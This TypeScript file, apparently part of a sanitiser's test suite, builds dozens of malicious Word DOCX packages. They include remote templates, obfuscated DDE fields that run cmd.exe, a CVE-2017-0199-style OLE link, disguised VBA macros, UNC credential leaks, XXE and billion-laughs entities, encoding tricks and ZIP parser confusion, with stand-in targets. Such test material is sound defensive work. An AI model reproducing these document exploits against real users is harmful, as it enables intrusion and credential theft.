import {
  type Attack,
  type Attacked,
  attackOn,
  BODY,
  braces,
  complex,
  d,
  doctype,
  external,
  letters,
  mark,
  odd,
  PIXEL,
  plain,
  renamed,
  SETTINGS,
  settings,
  unc,
  utf7,
  utf16,
  utf16be,
  VBA,
  web,
} from './attack-marks.js';
import {
  CT,
  document,
  drawing,
  entriesOf,
  field,
  fieldChar,
  instr,
  NS_R,
  PAGE,
  PKG,
  para,
  R,
  rels,
  run,
  sect,
  story,
  text,
  types,
  XML,
} from './ooxml.js';
import { zip } from './zip-by-hand.js';

/** Documents that fetch, run or hide something, each the control and one thing more; written by somebody who had not read what cleans them. */
export function documentAttacks(): Attack[] {
  const attacks: Attack[] = [];
  const attack = (id: string, attempts: string, made: Attacked, objective?: string) =>
    attacks.push(attackOn(id, attempts, made, objective));
  let id: string;
  id = 'd01';
  attack(
    id,
    'A picture (a:blip r:link) whose relation has the type hyperlink, which is allowed outwards',
    d(para(drawing('rId66', 'link')), { relations: external(id, 'hyperlink') }),
  );
  id = 'd02';
  attack(
    id,
    'w:attachedTemplate whose relation has the type hyperlink: a remote template with macros',
    d('', {
      ...SETTINGS,
      parts: {
        'word/settings.xml': settings('<w:attachedTemplate r:id="rId66"/>'),
        'word/_rels/settings.xml.rels': rels(external(id, 'hyperlink', `${web(id)}.dotm`)),
      },
    }),
  );
  id = 'd03';
  {
    const parts = d(para(drawing('rId66', 'link')), { relations: external(id, 'image') });
    attack(
      id,
      'The relations are named document.xml.RELS: part names are equal whatever their case',
      renamed(parts, { 'word/_rels/document.xml.rels': 'word/_rels/document.xml.RELS' }),
    );
  }
  id = 'd04';
  {
    const parts = d(para(drawing('rId66', 'link')), { relations: external(id, 'image') });
    attack(
      id,
      'The same with _RELS and WORD in capitals',
      renamed(parts, { 'word/_rels/document.xml.rels': 'WORD/_RELS/Document.XML.rels' }),
    );
  }
  id = 'd05';
  attack(id, 'INCLUDEPICTURE in one run', d(para(field(`INCLUDEPICTURE "${web(id)}.png" \\d`))));
  id = 'd06';
  attack(
    id,
    'INCLUDEPICTURE cut in two runs',
    d(para(complex(instr('INCLUDE') + instr(`PICTURE "${web(id)}.png" \\d \\* MERGEFORMAT`)))),
  );
  id = 'd07';
  attack(
    id,
    'INCLUDETEXT as w:fldSimple in lower case with a tab',
    d(
      para(
        `<w:fldSimple w:instr=" &#9;includeText &quot;${web(id)}.docx&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>`,
      ),
    ),
  );
  id = 'd08';
  attack(
    id,
    'DDE one letter a run, with proofing marks, bookmarks and paragraphs between',
    d(
      para(
        fieldChar('begin') +
          letters('DD') +
          '<w:proofErr w:type="spellStart"/>' +
          letters('E') +
          '<w:bookmarkStart w:id="1" w:name="b"/>',
      ) +
        para(
          '<w:bookmarkEnd w:id="1"/>' +
            letters(` cmd "/c ${mark(id)}" x`) +
            fieldChar('separate') +
            run('x') +
            fieldChar('end'),
        ),
    ),
  );
  id = 'd09';
  attack(
    id,
    'DDEAUTO inside IF',
    d(
      para(
        complex(
          instr(' IF 1 = 1 "') +
            complex(instr('DDE') + instr(`AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k ${mark(id)}"`)) +
            instr('" ""'),
        ),
      ),
    ),
  );
  id = 'd10';
  attack(
    id,
    'The word DDEAUTO is made by QUOTE from numbers, so that no part holds it',
    d(
      para(
        complex(
          complex(instr(` QUOTE ${[...'DDEAUTO'].map((c) => c.charCodeAt(0)).join(' ')} `), 'DDEAUTO') +
            instr(` cmd "/k ${mark(id)}"`),
        ),
      ),
    ),
  );
  id = 'd11';
  attack(
    id,
    'VML pictures outward: r:href, o:relid to an outward relation, and src',
    d(
      para(
        `<w:r><w:pict><v:shape id="s" style="width:10pt;height:10pt"><v:imagedata r:id="rId66" r:href="rId66" o:href="${web(id)}" src="${web(id)}.png" o:title=""/></v:shape></w:pict></w:r>`,
      ),
      { relations: external(id, 'image') },
    ),
  );
  id = 'd12';
  attack(
    id,
    'VML that needs no relation: v:imagedata src, v:fill src, v:stroke src, v:shape href, v:textpath',
    d(
      para(
        `<w:r><w:pict><v:rect href="${web(id)}/h" style="width:10pt;height:10pt"><v:imagedata src="${web(id)}/i.png"/><v:fill type="frame" src="${web(id)}/f.png" o:href="${unc(id)}"/><v:stroke src="${web(id)}/s.png"/></v:rect></w:pict></w:r>`,
      ),
    ),
  );
  id = 'd13';
  attack(
    id,
    'INCLUDEPICTURE split between w:instrText, w:delInstrText and tracked insertions',
    d(
      para(
        fieldChar('begin') +
          `<w:ins w:id="1" w:author="a"><w:r><w:instrText>INCLUDE</w:instrText></w:r></w:ins><w:del w:id="2" w:author="a"><w:r><w:delInstrText>PICTURE "${web(id)}"</w:delInstrText></w:r></w:del>` +
          instr(`PICTURE "${web(id)}/2"`) +
          fieldChar('separate') +
          run('x') +
          fieldChar('end'),
      ),
    ),
  );
  id = 'd14';
  attack(
    id,
    'The name of the field in character references, CDATA and with comments between its letters',
    d(
      para(
        `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>&#73;&#x4E;C<!-- -->LUDE<![CDATA[PICT]]>URE "${web(id)}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ),
    ),
  );
  id = 'd15';
  attack(
    id,
    'The namespaces under other prefixes (q:instrText, z:link): who looks for "w:instrText" finds nothing',
    {
      ...d('', { relations: external(id, 'image') }),
      'word/document.xml': document(
        BODY + para(drawing('rId66', 'link')) + para(field(`INCLUDEPICTURE "${web(id)}"`)),
      )
        .replace(/\bw:/g, 'q:')
        .replace('xmlns:w=', 'xmlns:q=')
        .replace(/\br:/g, 'z:')
        .replace('xmlns:r=', 'xmlns:z='),
    },
  );

  id = 'd20';
  attack(
    id,
    'A remote template by its own type',
    d('', {
      ...SETTINGS,
      parts: {
        'word/settings.xml': settings('<w:attachedTemplate r:id="rId66"/>'),
        'word/_rels/settings.xml.rels': rels(external(id, 'attachedTemplate', `${web(id)}.dotm`)),
      },
    }),
  );
  id = 'd21';
  attack(
    id,
    'A frameset in webSettings loads another document',
    d('', {
      overrides: { '/word/webSettings.xml': CT.webSettings },
      relations: [['rId51', 'webSettings', 'webSettings.xml']],
      parts: {
        'word/webSettings.xml': story(
          'webSettings',
          '<w:frameset><w:frame><w:sz w:val="100%"/><w:name w:val="f"/><w:sourceFileName r:id="rId66"/></w:frame></w:frameset>',
        ),
        'word/_rels/webSettings.xml.rels': rels(external(id, 'frame')),
      },
    }),
  );
  id = 'd22';
  attack(
    id,
    'w:subDoc outward (NTLM by UNC)',
    d('<w:subDoc r:id="rId66"/>', { relations: external(id, 'subDocument', `file:///${unc(id)}`) }),
  );
  id = 'd23';
  attack(
    id,
    'w:altChunk of HTML in the package, which fetches a picture and a style',
    d('<w:altChunk r:id="rId66"/>', {
      relations: [['rId66', 'aFChunk', 'chunk.html']],
      defaults: { html: 'text/html' },
      parts: {
        'word/chunk.html': `<html><link rel="stylesheet" href="${web(id)}.css"><img src="${web(id)}"><script>${mark(id)}</script></html>`,
      },
    }),
  );
  id = 'd24';
  attack(
    id,
    'w:altChunk outward',
    d('<w:altChunk r:id="rId66"/>', { relations: external(id, 'aFChunk', `${web(id)}.rtf`) }),
  );
  id = 'd25';
  attack(
    id,
    'A linked OLE object that updates itself (as CVE-2017-0199)',
    d(
      para(
        `<w:r><w:object><v:shape id="s" style="width:1pt;height:1pt"/><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="rId66" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r>`,
      ),
      { relations: external(id, 'oleObject', `mhtml:${web(id)}!x-usc:${web(id)}/2`) },
    ),
  );
  id = 'd26';
  attack(
    id,
    'An embedded OLE package (an executable behind an icon)',
    d(
      para(
        `<w:r><w:object><v:shape id="s" style="width:1pt;height:1pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s" DrawAspect="Icon" ObjectID="_1" r:id="rId66"/></w:object></w:r>`,
      ),
      {
        relations: [['rId66', 'oleObject', 'embeddings/oleObject1.bin']],
        defaults: { bin: 'application/vnd.openxmlformats-officedocument.oleObject' },
        parts: {
          'word/embeddings/oleObject1.bin': Buffer.concat([
            Buffer.from('d0cf11e0a1b11ae1', 'hex'),
            Buffer.from(`Package ${mark(id)}.exe`),
          ]),
        },
      },
    ),
  );
  id = 'd27';
  attack(
    id,
    'An ActiveX control',
    d(para('<w:r><w:object><w:control r:id="rId66" w:name="c" w:shapeid="s"/></w:object></w:r>'), {
      relations: [['rId66', 'control', 'activeX/activeX1.xml']],
      overrides: { '/word/activeX/activeX1.xml': 'application/vnd.ms-office.activeX+xml' },
      parts: {
        'word/activeX/activeX1.xml': `${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{00024500-0000-0000-C000-000000000046}" ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="URL" ax:value="${web(id)}"/></ax:ocx>`,
      },
    }),
  );
  id = 'd28';
  attack(
    id,
    'vbaProject.bin as word/data.xml by override and relation, in a document whose main type says no macros',
    d('', {
      relations: [['rId66', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'data.xml']],
      overrides: { '/word/data.xml': 'application/vnd.ms-office.vbaProject' },
      parts: { 'word/data.xml': VBA(mark(id)) },
    }),
  );
  id = 'd29';
  attack(
    id,
    'vbaProject.bin as word/media/image1.png, shown as a picture too',
    d(para(drawing('rId66')), {
      relations: [
        ['rId66', 'image', 'media/image1.png'],
        ['rId67', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'media/image1.png'],
      ],
      overrides: { '/word/media/image1.png': 'application/vnd.ms-office.vbaProject' },
      parts: { 'word/media/image1.png': VBA(mark(id)) },
    }),
  );
  id = 'd30';
  {
    const parts = d('', {
      relations: [
        ['rId66', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin'],
      ],
      parts: { 'word/vbaProject.bin': VBA(mark(id)) },
    });
    parts['[Content_Types].xml'] = String(parts['[Content_Types].xml'])
      .replace(CT.main, 'application/vnd.ms-word.document.macroEnabled.main+xml')
      .replace(
        '</Types>',
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      );
    attack(id, 'A DOCM under the name DOCX', parts);
  }
  id = 'd31';
  attack(
    id,
    'customXml with outward schema references and w:attachedSchema, bound to a content control',
    d(
      '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{6A000000-0000-4000-8000-000000000000}"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>',
      {
        ...SETTINGS,
        relations: [...SETTINGS.relations, ['rId66', 'customXml', '../customXml/item1.xml']],
        overrides: {
          ...SETTINGS.overrides,
          '/customXml/itemProps1.xml':
            'application/vnd.openxmlformats-officedocument.customXmlProperties+xml',
        },
        parts: {
          'word/settings.xml': settings(
            `<w:attachedSchema w:val="${web(id)}/s.xsd"/><w:saveThroughXslt r:id="rId67"/>`,
          ),
          'word/_rels/settings.xml.rels': rels([['rId67', 'transform', `${web(id)}/s.xsl`, 'External']]),
          'customXml/item1.xml': `${XML}<?xml-stylesheet type="text/xsl" href="${web(id)}/x.xsl"?><x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${web(id)}/x.xsd"/>`,
          'customXml/_rels/item1.xml.rels': rels([['rId1', 'customXmlProps', 'itemProps1.xml']]),
          'customXml/itemProps1.xml': `${XML}<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" ds:itemID="{6A000000-0000-4000-8000-000000000000}"><ds:schemaRefs><ds:schemaRef ds:uri="${web(id)}/r.xsd"/></ds:schemaRefs></ds:datastoreItem>`,
        },
      },
    ),
  );
  id = 'd32';
  attack(
    id,
    'A mail merge source outward: asked for on opening',
    d('', {
      ...SETTINGS,
      parts: {
        'word/settings.xml': settings(
          `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="odbc"/><w:connectString w:val="Provider=SQLOLEDB;Server=127.0.0.1,9;App=${mark(id)}"/><w:query w:val="SELECT 1"/><w:dataSource r:id="rId66"/><w:odso><w:udl w:val="${mark(id)}"/><w:src r:id="rId67"/></w:odso></w:mailMerge>`,
        ),
        'word/_rels/settings.xml.rels': rels([
          ['rId66', 'mailMergeSource', `file:///${unc(id)}`, 'External'],
          ['rId67', 'mailMergeSource', web(id), 'External'],
        ]),
      },
    }),
  );
  id = 'd33';
  attack(
    id,
    'A picture of the package that is itself a link by UNC, on click and on hover',
    d(
      para(
        drawing('rId60').replace(
          'name="Gambar 1"/>',
          'name="Gambar 1"><a:hlinkClick r:id="rId66"/><a:hlinkHover r:id="rId67"/></wp:docPr>',
        ),
      ),
      {
        relations: [
          ['rId60', 'image', 'media/a.png'],
          ['rId66', 'hyperlink', `file://${unc(id)}`, 'External'],
          ['rId67', 'hyperlink', unc(id), 'External'],
        ],
        parts: { 'word/media/a.png': PIXEL },
      },
    ),
  );
  id = 'd34';
  attack(
    id,
    'Links of the text by javascript:, search-ms:, ms-msdt:, ms-word:ofe, file:, data:, vbscript:',
    d(
      para(
        [...Array(7)]
          .map((_, i) => `<w:hyperlink r:id="rId${70 + i}"><w:r><w:t>pautan</w:t></w:r></w:hyperlink>`)
          .join(''),
      ),
      {
        relations: [
          'javascript:',
          'search-ms:query=',
          'ms-msdt:/id ',
          'ms-word:ofe|u|',
          'file:///',
          'data:text/html,',
          'vbscript:',
        ].map((scheme, i) => [`rId${70 + i}`, 'hyperlink', `${scheme}${web(id)}`, 'External']),
      },
    ),
  );
  id = 'd35';
  attack(
    id,
    'HYPERLINK as a field: UNC, local switch, and a base address in the properties of the file',
    d(para(field(` HYPERLINK "file://${unc(id).replace(/\\/g, '\\\\')}" \\o "${mark(id)}" `, 'pautan')), {
      rootRelations: [['rId9', 'extended-properties', 'docProps/app.xml']],
      overrides: {
        '/docProps/app.xml': 'application/vnd.openxmlformats-officedocument.extended-properties+xml',
      },
      parts: {
        'docProps/app.xml': `${XML}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Template>${unc(id)}.dotm</Template><HyperlinkBase>${web(id)}</HyperlinkBase></Properties>`,
      },
    }),
  );
  id = 'd36';
  attack(
    id,
    'A theme whose background picture is outward',
    d('', {
      overrides: { '/word/theme/theme1.xml': CT.theme },
      relations: [['rId52', 'theme', 'theme/theme1.xml']],
      parts: {
        'word/theme/theme1.xml': `${XML}<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${NS_R}" name="t"><a:themeElements><a:fmtScheme name="f"><a:bgFillStyleLst><a:blipFill><a:blip r:link="rId66"/></a:blipFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`,
        'word/theme/_rels/theme1.xml.rels': rels(external(id, 'image')),
      },
    }),
  );
  id = 'd37';
  attack(
    id,
    'An SVG picture in the package (beside a PNG) that fetches, scripts and includes',
    d(
      para(
        drawing('rId60').replace(
          '<a:blip r:embed="rId60"/>',
          '<a:blip r:embed="rId60"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId66"/></a:ext></a:extLst></a:blip>',
        ),
      ),
      {
        defaults: { svg: 'image/svg+xml' },
        relations: [
          ['rId60', 'image', 'media/a.png'],
          ['rId66', 'image', 'media/a.svg'],
        ],
        parts: {
          'word/media/a.png': PIXEL,
          'word/media/a.svg': `<?xml version="1.0"?><?xml-stylesheet href="${web(id)}.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>fetch("${web(id)}")</script><image xlink:href="${web(id)}"/><use href="${web(id)}#a"/><foreignObject><iframe src="${web(id)}"/></foreignObject><style>@import "${web(id)}/c";</style></svg>`,
        },
      },
    ),
  );
  id = 'd38';
  attack(
    id,
    'The same SVG under the name and the type of a PNG',
    d(para(drawing('rId66')), {
      relations: [['rId66', 'image', 'media/a.png']],
      parts: {
        'word/media/a.png': `<svg xmlns="http://www.w3.org/2000/svg"><image href="${web(id)}"/></svg>`,
      },
    }),
  );
  id = 'd39';
  attack(
    id,
    'An embedded font (bytes of unknown origin reach the font renderer) and one by an outward relation',
    d('', {
      overrides: { '/word/fontTable.xml': CT.fontTable },
      defaults: { odttf: 'application/vnd.openxmlformats-officedocument.obfuscatedFont' },
      relations: [['rId53', 'fontTable', 'fontTable.xml']],
      parts: {
        'word/fontTable.xml': story(
          'fonts',
          '<w:font w:name="Jahat"><w:embedRegular r:id="rId66" w:fontKey="{00000000-0000-4000-8000-000000000000}"/><w:embedBold r:id="rId67" w:fontKey="{00000000-0000-4000-8000-000000000001}"/></w:font>',
        ),
        'word/_rels/fontTable.xml.rels': rels([
          ['rId66', 'font', 'fonts/f.odttf'],
          ['rId67', 'font', web(id), 'External'],
        ]),
        'word/fonts/f.odttf': Buffer.from(mark(id)),
      },
    }),
  );
  id = 'd40';
  {
    const [good, bad] = plain(id);
    const both = ['word/document.xml', 'word/_rels/document.xml.rels'].map((name) => ({
      name,
      data: bad[name],
    }));
    attack(id, 'Two entries with one name: the first is honest, the second fetches', [
      ...entriesOf(good),
      ...both,
    ]);
  }
  id = 'd41';
  {
    const [good, bad] = plain(id);
    const both = ['word/document.xml', 'word/_rels/document.xml.rels'].map((name) => ({
      name,
      data: bad[name],
    }));
    attack(id, 'Two entries with one name: the second is honest', [...both, ...entriesOf(good)]);
  }
  id = 'd42';
  {
    const [good, bad] = plain(id);
    attack(id, 'Word/Document.xml beside word/document.xml', [
      ...entriesOf(good),
      { name: 'Word/Document.xml', data: bad['word/document.xml'] },
      { name: 'Word/_rels/Document.xml.rels', data: bad['word/_rels/document.xml.rels'] },
    ]);
  }
  id = 'd43';
  {
    const [, bad] = plain(id);
    attack(
      id,
      'Relations named word\\_rels\\document.xml.rels: Windows reads them, a filter by name does not',
      renamed(bad, { 'word/_rels/document.xml.rels': 'word\\_rels\\document.xml.rels' }),
    );
  }
  id = 'd44';
  {
    const [good, bad] = plain(id);
    attack(
      id,
      'Names that leave the folder or come back into it: ../../jahat, /abs, C:/, word/./_rels/../_rels/document.xml.rels, word/%2e%2e/',
      [
        ...entriesOf(good).filter(({ name }) => name !== 'word/_rels/document.xml.rels'),
        { name: 'word/./x/../_rels/document.xml.rels', data: bad['word/_rels/document.xml.rels'] },
        ...['../../../tmp/', '/etc/', 'C:/', 'word/%2e%2e/', 'word//'].map((at) => ({
          name: `${at}${mark(id)}.xml`,
          data: '<x/>',
        })),
      ],
    );
  }
  id = 'd45';
  {
    const [good, bad] = plain(id);
    attack(
      id,
      'A whole second package in the comment of the first: who looks for the last end record from behind sees the other one',
      zip(entriesOf(good), { comment: zip(entriesOf(bad)) }),
    );
  }
  id = 'd46';
  {
    const [good, bad] = plain(id);
    attack(
      id,
      'A package before the package, and an executable head (MZ) before both',
      zip(entriesOf(good), { prefix: Buffer.concat([Buffer.from('MZ'), zip(entriesOf(bad))]) }),
    );
  }
  id = 'd47';
  {
    const [good, bad] = plain(id);
    attack(
      id,
      'The local head says word/document.xml and holds the attack, the directory says word/theme/x.xml',
      [
        ...entriesOf(good),
        ...['word/document.xml', 'word/_rels/document.xml.rels'].map((name, i) => ({
          name: `word/theme/x${i}.xml`,
          localName: name,
          data: bad[name],
        })),
      ],
    );
  }
  id = 'd48';
  {
    const [good, bad] = plain(id);
    attack(id, 'Entries that the directory does not list: readers of streams take them', [
      ...['word/document.xml', 'word/_rels/document.xml.rels'].map((name) => ({
        name,
        data: bad[name],
        hidden: true,
      })),
      ...entriesOf(good),
    ]);
  }
  id = 'd49';
  {
    const parts = d(para('<w:r><w:t>&e;&m;</w:t></w:r>'));
    attack(
      id,
      'DOCTYPE with outward entities in word/document.xml, used in visible text',
      doctype(parts, ['word/document.xml'], id),
    );
  }
  let n = 0;
  for (const part of [
    '[Content_Types].xml',
    '_rels/.rels',
    'word/_rels/document.xml.rels',
    'word/styles.xml',
    'word/settings.xml',
    'docProps/core.xml',
    'word/header1.xml',
  ]) {
    id = `d50${'abcdefg'[n++]}`;
    const parts = d('', {
      section: sect(`<w:headerReference w:type="default" r:id="rId54"/>${PAGE}`),
      overrides: {
        ...SETTINGS.overrides,
        '/word/header1.xml': CT.header,
        '/docProps/core.xml': 'application/vnd.openxmlformats-package.core-properties+xml',
      },
      relations: [...SETTINGS.relations, ['rId54', 'header', 'header1.xml']],
      rootRelations: [['rId9', `${PKG}relationships/metadata/core-properties`, 'docProps/core.xml']],
      parts: {
        'word/settings.xml': settings('<w:zoom w:percent="100"/>'),
        'word/header1.xml': story('hdr', text('{{sekolah}}')),
        'docProps/core.xml': `${XML}<cp:coreProperties xmlns:cp="${PKG}metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>RPH</dc:title></cp:coreProperties>`,
      },
    });
    attack(id, `DOCTYPE with outward entities in ${part}`, doctype(parts, [part], id));
  }
  id = 'd51';
  {
    const parts = d(para('<w:r><w:t>&l9;</w:t></w:r>'));
    const laughs = `<!DOCTYPE w:document [<!ENTITY l0 "${mark(id)}">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>`;
    attack(id, 'Entities that grow to a thousand million (10 GB of text)', {
      ...parts,
      'word/document.xml': String(parts['word/document.xml']).replace(XML, XML + laughs),
    });
  }
  id = 'd52';
  {
    const [, bad] = plain(id);
    const name = 'word/_rels/document.xml.rels';
    attack(id, 'The relations in UTF-7: no sign < in the bytes', {
      ...bad,
      [name]: `<?xml version="1.0" encoding="UTF-7"?>${utf7(String(bad[name]).replace(XML, ''))}`,
    });
  }
  id = 'd53';
  {
    const [, bad] = plain(id);
    const name = 'word/_rels/document.xml.rels';
    attack(id, 'The relations in UTF-16 with a mark', { ...bad, [name]: utf16(bad[name]) });
  }
  id = 'd54';
  {
    const [, bad] = plain(id);
    const name = 'word/_rels/document.xml.rels';
    attack(id, 'Document and relations in UTF-16 with the high byte first', {
      ...bad,
      [name]: utf16be(bad[name]),
      'word/document.xml': utf16be(bad['word/document.xml']),
    });
  }
  id = 'd55';
  {
    const [, bad] = plain(id);
    const name = 'word/_rels/document.xml.rels';
    attack(id, 'The relations in UTF-16 without a byte order mark', {
      ...bad,
      [name]: utf16(bad[name], false),
    });
  }
  id = 'd56';
  attack(
    id,
    'Outward targets that do not look so: a space, tab or newline first, percent-encoded, without a scheme (//127...), without TargetMode, TargetMode in lower case, character references, backslashes for slashes',
    {
      ...d(
        [0, 1, 2, 3, 4, 5, 6, 7]
          .map((i) => para(drawing(`rId${80 + i}`, i % 2 ? 'embed' : 'link', i + 5)))
          .join(''),
      ),
      'word/_rels/document.xml.rels': `${XML}<Relationships xmlns="${PKG}relationships"><Relationship Id="rId1" Type="${R}styles" Target="styles.xml"/>${[
        [` ${web(id)}/0`, 'External'],
        [`&#9;${web(id)}/1`, 'External'],
        [`%68ttp:%2F%2F127.0.0.1:9/${mark(id)}/2`, 'External'],
        [`//127.0.0.1:9/${mark(id)}/3`, 'External'],
        [`${web(id)}/4`, null],
        [`${web(id)}/5`, 'external'],
        [`&#x68;ttp://127.0.0.1:9/${mark(id)}/6`, ' External '],
        [`http:\\\\127.0.0.1:9\\${mark(id)}\\7`, 'External'],
      ]
        .map(
          ([target, mode], i) =>
            `<Relationship Id="rId${80 + i}" Type="${R}image" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`,
        )
        .join('')}</Relationships>`,
    },
  );
  id = 'd57';
  attack(
    id,
    'mc:AlternateContent: an honest Fallback, an outward picture in Choice of a namespace that Word knows; and the other way round; in a run, in a paragraph and around a table',
    d(
      para(
        `<w:r><mc:AlternateContent><mc:Choice Requires="wps">${drawing('rId66', 'link').slice(5, -6)}</mc:Choice><mc:Fallback><w:t>x</w:t></mc:Fallback></mc:AlternateContent></w:r>`,
      ) +
        `<mc:AlternateContent><mc:Choice Requires="wps"><w:p/></mc:Choice><mc:Fallback>${para(field(`INCLUDEPICTURE "${web(id)}"`))}</mc:Fallback></mc:AlternateContent>`,
      { relations: external(id, 'image') },
    ),
  );
  id = 'd58';
  {
    const parts = d();
    const body = document(BODY + para(field(`INCLUDEPICTURE "${web(id)}"`)))
      .replace('<w:document ', '<w:document xmlns:zz="urn:zz" mc:Ignorable="zz" mc:ProcessContent="zz:wrap" ')
      .replace(/(<w:p><w:r><w:fldChar.*<\/w:p>)/, '<zz:wrap>$1</zz:wrap>');
    attack(id, 'An element that is to be ignored while its content counts (mc:ProcessContent)', {
      ...parts,
      'word/document.xml': body,
    });
  }
  id = 'd59';
  {
    const parts = d('', {
      parts: {
        'custom/other.bin': document(BODY + para(drawing('rId66', 'link'))),
        'custom/_rels/other.bin.rels': rels(external(id, 'image')),
      },
    });
    parts['[Content_Types].xml'] = types({
      '/word/styles.xml': CT.styles,
      '/word/document.xml': 'application/xml',
      '/custom/other.bin': CT.main,
    });
    parts['_rels/.rels'] = rels([['rId1', 'officeDocument', 'custom/other.bin']]);
    attack(
      id,
      'The type and the first relation make custom/other.bin the document; word/document.xml is an honest decoy',
      parts,
    );
  }
  id = 'd60';
  {
    const parts = d('', {
      rootRelations: [['rId2', 'officeDocument', 'word/two.xml']],
      overrides: { '/word/two.xml': CT.main },
      parts: { 'word/two.xml': document(para(field(`INCLUDETEXT "${web(id)}"`))) },
    });
    attack(id, 'Two officeDocument relations', parts);
  }
  id = 'd61';
  {
    const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships/';
    attack(
      id,
      'Relations by the names of the strict standard: image and attachedTemplate outward',
      d(para(drawing('rId66', 'link')), {
        ...SETTINGS,
        relations: [...SETTINGS.relations, ...external(id, `${strict}image`)],
        parts: {
          'word/settings.xml': settings('<w:attachedTemplate r:id="rId66"/>'),
          'word/_rels/settings.xml.rels': rels(external(id, `${strict}attachedTemplate`)),
        },
      }),
    );
  }
  id = 'd62';
  attack(
    id,
    'A relation of a type that nobody knows, outward, and one of a known type in other letters (…/Image)',
    d('', {
      relations: [
        ['rId66', 'http://schemas.microsoft.com/office/2031/relationships/cloud', web(id), 'External'],
        ['rId67', `${R}Image`, web(id), 'External'],
      ],
      rootRelations: external(id, `${PKG}relationships/metadata/thumbnail`),
    }),
  );
  id = 'd63';
  attack(
    id,
    'Fields that fetch, run or ask: DATABASE, RD, LINK, INCLUDE, IMPORT, MACROBUTTON, GOTOBUTTON, ADDIN, PRINT, ASK, FILLIN, AUTOTEXT, EMBED, DOCPROPERTY, SHAPE, PRIVATE',
    d(
      [
        'DATABASE \\c "ODBC;S=M" \\s "SELECT" ',
        'RD ',
        'LINK Excel.Sheet.8 ',
        'INCLUDE ',
        'IMPORT ',
        'MACROBUTTON AutoExec ',
        'GOTOBUTTON ',
        'ADDIN ',
        'PRINT ',
        'ASK b ',
        'FILLIN ',
        'AUTOTEXT ',
        'EMBED ',
        'SHAPE ',
        'PRIVATE ',
      ]
        .map((name) => para(field(`${name} "${web(id)}"`)))
        .join(''),
    ),
  );
  id = 'd64';
  {
    const evil = (n2: number) =>
      para(drawing('rId66', 'link', n2)) + para(field(`INCLUDEPICTURE "${web(id)}/${n2}"`));
    const stories: readonly (readonly [string, string, (body: string) => string])[] = [
      ['header', 'hdr', (body) => body],
      ['footer', 'ftr', (body) => body],
      ['footnotes', 'footnotes', (body) => `<w:footnote w:id="2">${body}</w:footnote>`],
      ['endnotes', 'endnotes', (body) => `<w:endnote w:id="2">${body}</w:endnote>`],
      ['comments', 'comments', (body) => `<w:comment w:id="2" w:author="a">${body}</w:comment>`],
    ];
    attack(
      id,
      'The attack in head, foot, footnotes, endnotes and comments alone',
      d('', {
        section: sect(
          '<w:headerReference w:type="default" r:id="rId90"/><w:footerReference w:type="default" r:id="rId91"/>' +
            PAGE,
        ),
        overrides: Object.fromEntries(
          stories.map(([name]) => [
            `/word/${name}9.xml`,
            `application/vnd.openxmlformats-officedocument.wordprocessingml.${name}+xml`,
          ]),
        ),
        relations: stories.map(([name], i) => [`rId${90 + i}`, name, `${name}9.xml`]),
        parts: Object.fromEntries(
          stories.flatMap(([name, root, wrap], i) => [
            [`word/${name}9.xml`, story(root, wrap(evil(i + 1)))],
            [`word/_rels/${name}9.xml.rels`, rels(external(id, 'image'))],
          ]),
        ),
      }),
    );
  }
  id = 'd65';
  attack(
    id,
    'A glossary document (building blocks) with its own relations and settings, nothing of it visible',
    d('', {
      overrides: {
        '/word/glossary/document.xml':
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml',
      },
      relations: [['rId66', 'glossaryDocument', 'glossary/document.xml']],
      parts: {
        'word/glossary/document.xml': story(
          'glossaryDocument',
          `<w:docParts><w:docPart><w:docPartPr><w:name w:val="x"/></w:docPartPr><w:docPartBody>${para(field(`INCLUDETEXT "${web(id)}"`))}</w:docPartBody></w:docPart></w:docParts>`,
        ),
        'word/glossary/_rels/document.xml.rels': rels(external(id, 'attachedTemplate')),
      },
    }),
  );
  id = 'd66';
  attack(
    id,
    'A chart whose data is an outward workbook that updates itself',
    d(
      para(
        '<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="9" name="c"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId66"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>',
      ),
      {
        overrides: {
